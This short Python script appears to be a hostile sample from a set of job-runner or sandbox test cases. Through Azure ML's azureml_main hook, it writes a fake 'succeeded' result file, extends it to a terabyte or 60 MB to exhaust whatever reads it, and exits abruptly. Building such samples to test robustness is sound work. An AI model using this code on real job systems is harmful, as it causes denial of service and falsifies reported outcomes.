"""Leaves an outcome that is longer than any memory."""

import os

from attack import job_folder


def azureml_main(dataframe1=None, dataframe2=None):
    place = os.path.join(job_folder(), "outcome.json")
    with open(place, "w") as stream:
        stream.write('{"status": "succeeded"}')
        for size in (1 << 40, 60 << 20):
            try:
                stream.truncate(size)
            except OSError:
                continue
    os._exit(0)
